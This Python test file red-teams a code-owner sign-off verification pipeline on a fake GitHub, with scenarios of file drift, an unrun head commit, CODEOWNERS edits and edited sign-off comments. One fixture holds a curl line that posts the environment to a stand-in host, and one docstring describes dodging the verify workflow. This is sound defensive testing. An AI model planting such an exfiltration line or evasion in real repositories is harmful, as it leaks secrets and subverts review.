"""Red team 20: trust-model worlds (PRODUCT §4.8) replayed on the fake server.

Each world is seed 000 (a PASS sign-off, made by tests/data/worlds/make_trust_worlds.py's seed)
with one change an author controls; each test asserts what an honest reading says: no `success`.
"""

from __future__ import annotations

import pytest
from lib.trust_replay import posted as _posted
from lib.trust_replay import trust_worlds
from lib.trust_replay import verify_seed as _verify

from infx.signoff import pipeline as publish
from infx.signoff.trigger.gating import SignoffRef, Trigger


def _worlds(request):
    return trust_worlds(request, "make_trust_worlds_rt20")


def test_seed_000_passes(request, fake_github):
    """The control every world below changes one thing of."""
    m = _worlds(request)
    fake = fake_github(m.SEED.seed000())
    _verify(fake)
    assert _posted(fake, m.HEAD) == ["pending", "success"]


# --- 1. drift: a file the recipe runs from outside benchmarks/ and runners/ -----------------------

HELPER_CASES = [
    # a shell helper the recipe sources (the launch graph follows it; drift does not compare it)
    ("utils/engine_env.sh", "source utils/engine_env.sh\n", "export ATOM_PA_FLYDSL_PLAN=1\n",
     "export ATOM_PA_FLYDSL_PLAN=1\nexport ATOM_DECODE_GRAPH_BS=4096\n"),
    # a Python program the recipe runs from the PR's checkout
    ("tools/warmup.py", "python3 tools/warmup.py\n", "print('warm')\n",
     "import os\nos.environ['ATOM_DECODE_GRAPH_BS'] = '4096'\nos.system('curl -s -d \"$(env)\" https://collector.example/upload')\n"),
]


@pytest.mark.parametrize("path, call, swept, head", HELPER_CASES, ids=["sourced-sh", "run-py"])
def test_a_file_the_recipe_runs_from_elsewhere_changed_after_the_sweep_is_drift(request, fake_github, path, call,
                                                                              swept, head):
    """The swept commit 7bbb0e adds `path` (run by the recipe); the head 296a93, which the
    CODEOWNER signs, changes it. The sweep's results are of the old file."""
    m = _worlds(request)
    world = m.SEED.seed000()
    files = world["commits"][m.SWEEP]["files"]
    files[m.SCRIPT] = files[m.SCRIPT].replace("export ATOM_PA_FLYDSL=1\n", "export ATOM_PA_FLYDSL=1\n" + call)
    files[path] = swept
    world["commits"][m.HEAD]["files"][path] = head
    fake = fake_github(world)
    result = _verify(fake)
    assert "success" not in _posted(fake, m.HEAD), result.reason


# --- 2. binding: a head GitHub recorded no run for ------------------------------------------------

CLEAN = "c0ffee00000000000000000000000000000000a1"
BACK = "c0ffee00000000000000000000000000000000a2"
DISABLED = "name: codeowner-signoff-verify\non: workflow_dispatch\njobs: {}\n"


def _clean_head_signed(m) -> dict:
    """The swept commit and head 296a93 (run at 09:00) post the environment out (EXFIL). At 09:10
    the author pushes CLEAN: the upload dropped, and the PR's own signoff-verify.yml no longer
    triggers on pull_request, so GitHub starts no run for it (a PR whose merge with main conflicts
    gets none either). The CODEOWNER reviews what the PR shows, CLEAN, and signs at 09:30. At 10:00
    the author pushes BACK, a plain commit restoring 296a93's tree (a run records it). Nothing was
    force-pushed and no message asks to skip CI."""
    world = m.SEED.seed000()
    sweep = world["commits"][m.SWEEP]["files"]
    hostile = sweep[m.SCRIPT] + m.EXFIL
    sweep[m.SCRIPT] = hostile
    world["commits"][CLEAN] = {"parents": [m.HEAD], "files_from": m.HEAD, "message": "drop the upload",
                               "files": {m.SCRIPT: hostile.replace(m.EXFIL, ""),
                                         ".github/workflows/signoff-verify.yml": DISABLED}}
    world["commits"][BACK] = {"parents": [CLEAN], "files_from": CLEAN, "message": "restore",
                              "files": {m.SCRIPT: hostile, ".github/workflows/signoff-verify.yml": None}}
    pull = world["pulls"][0]
    pull["commits"] = [*pull["commits"], CLEAN, BACK]
    pull["head"]["sha"] = BACK
    pull["timeline"] = [{"event": "committed", "sha": sha, "message": world["commits"][sha]["message"]}
                        for sha in pull["commits"]]
    world["workflow_runs"].append(m._head_run(35873197790, BACK, pull["head"]["ref"], "2026-09-24T10:00:00Z"))
    return world


def test_a_sign_off_on_a_head_no_run_records_does_not_cover_the_head_before_it(request, fake_github):
    m = _worlds(request)
    fake = fake_github(_clean_head_signed(m))
    result = _verify(fake)
    assert "success" not in _posted(fake, BACK), result.reason


# --- 3. scope: the PR rewrites what the verdict trusts, signed by a vendor owner ----------------

@pytest.mark.xfail(strict=True, reason="rt20: Check codeowner leaves catch-all-only paths aside, so a "
                   "PR that also edits CODEOWNERS (making its author an owner of configs/), the sign-off "
                   "policy and the sign-off workflow passes on the sign-off of an owner of "
                   "configs/amd-master.yaml only, and the verdict does not name those files: success")
def test_a_pr_that_edits_codeowners_and_policy_needs_their_owner(request, fake_github):
    m = _worlds(request)
    world = m.SEED.seed000()
    root = m._root(world)["files"]
    overrides = root["configs/policy/overrides.yaml"]
    assert "num_hidden_layers" in overrides
    for commit in (m.SWEEP, m.HEAD):  # swept with the edits too: drift is not what stops it
        files = world["commits"][commit]["files"]
        files["CODEOWNERS"] = root["CODEOWNERS"] + "\nconfigs/ @yhl-amd\n"
        files["configs/policy/overrides.yaml"] = overrides.replace("num_hidden_layers", "num_hidden_layerz")
    fake = fake_github(world)
    result = _verify(fake)
    assert "success" not in _posted(fake, m.HEAD), result.reason


# --- 4. identity: a sign-off's text edited by someone else before the verdict reads it -----------

@pytest.mark.xfail(strict=True, reason="rt20: the verdict reads the sign-off's current body and takes it "
                   "as the signer's words; anyone with write access (the PR author here) can edit another "
                   "user's comment, and REST does not say who edited; an edit made after the CODEOWNER "
                   "posted (updated_at after created_at) and before the verify job (or a re-verification) "
                   "reads it is judged as the owner's sign-off: success")
def test_a_sign_off_edited_after_posting_is_not_taken_as_the_signers_words(request, fake_github):
    """The CODEOWNER posts the sign-off at 09:30:00 with the engine-first item unchecked; the
    author (write access) edits it at 09:30:20, ticking the box, before the queued verify job
    reads it. The world holds only what GitHub serves: the edited body, its two times."""
    m = _worlds(request)
    world = m.SEED.seed000()
    signoff = next(c for c in world["pulls"][0]["comments"] if c["id"] == 5003)
    assert signoff["created_at"] == signoff["updated_at"] == "2026-09-24T09:30:00Z"
    signoff["updated_at"] = "2026-09-24T09:30:20Z"
    fake = fake_github(world)
    trigger = Trigger(True, "test", 3412, SignoffRef("issue_comment", 5003), actor="chunfangamd")
    result = publish.verify(fake.client(), fake.world["repo"], trigger, publish.Options())
    assert "success" not in _posted(fake, m.HEAD), result.reason
